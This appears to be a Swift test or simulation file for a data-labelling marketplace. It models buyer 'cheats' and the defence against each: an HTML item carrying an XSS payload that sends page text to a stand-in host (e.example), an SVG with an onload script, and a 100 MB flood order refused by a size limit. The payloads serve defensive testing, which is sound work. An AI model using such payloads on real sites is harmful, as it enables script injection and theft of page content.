// Cheats by what an item holds: a script, a picture that is none, more bytes than anybody reads.

import Kernel
import Labels
import Market
import Primitives

extension Labellers {
  static let html = "<img src=x onerror=\"fetch('//e.example/'+document.body.innerText)\">"
  static let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>"

  /// What becomes of a batch in which one item is hostile.
  private enum Fate {
    /// Whoever answers reads the item as the text that it is.
    case shown
    /// Whoever answers refuses the whole batch.
    case refused
    /// It runs in the labeller's page.
    case runs
  }

  /// The batch goes through the reader that every labeller has.
  private static func fate(_ s: Setting, of hostile: LabelItem) throws -> Fate {
    guard s.has(.inertItems) else { return .runs }
    var list = (1..<items).map {
      LabelItem(name: "\($0)", media: "text/plain", body: Array("item \($0)".utf8))
    }
    list.append(hostile)
    let spec = LabelsSpec(
      question: "Which?", choices: (1...choices).map { "choice \($0)" }, items: UInt64(items))
    do {
      _ = try LabelItems(bytes: LabelItems(list).encoded, for: spec)
      return .shown
    } catch {
      return .refused
    }
  }

  /// The labels are worth to it what looking costs. A script in a labeller's page could tell it
  /// what was chosen, and keep everybody from handing in: where nobody opens, prices go back.
  static func script(_ variant: String, _ body: String, _ media: String) -> Cheat {
    let hostile = LabelItem(name: "x", media: media, body: Array(body.utf8))
    return Cheat(
      "labels.script", variant, by: .buyer,
      "hides a script in an item, to read the answers and to keep them from being handed in",
      figure: nil
    ) { s in
      let labels = 3 * Fraction(s.cost)
      let unopened = try settled(s, [[], [], []], gold: []).net(of: .buyer) - s.tolls(3)
      switch try fate(s, of: hostile) {
      case .runs: return .certain(unopened + labels)
      case .refused: return .certain(unopened)
      case .shown:
        return try each {
          let answers = [$0.good(), $0.good(), $0.good()]
          return try settled(s, answers, gold: []).net(of: .buyer) + labels - s.tolls(3)
        }
      }
    }.with {
      $0.defence = "an item is what its first bytes say, and markup is text"
    }
  }

  private static let flooding: UInt64 = 100_000_000

  /// Nobody gains by it: it would cost the seats their disks, and the time until they give up.
  static let flood = Cheat(
    "labels.flood", by: .buyer, "orders labels of items of 100 MB, to choke who answers",
    figure: nil
  ) { s in
    do {
      try LabelsWork.admit(inputBytes: flooding, for: [])
    } catch {
      return .certain(0 - (try s.tolls(1)))
    }
    return .certain(try settled(s, [[], [], []], gold: []).net(of: .buyer) - s.tolls(3))
  }.with { $0.defence = "the order is refused by the size of its input: 16 MiB" }
}
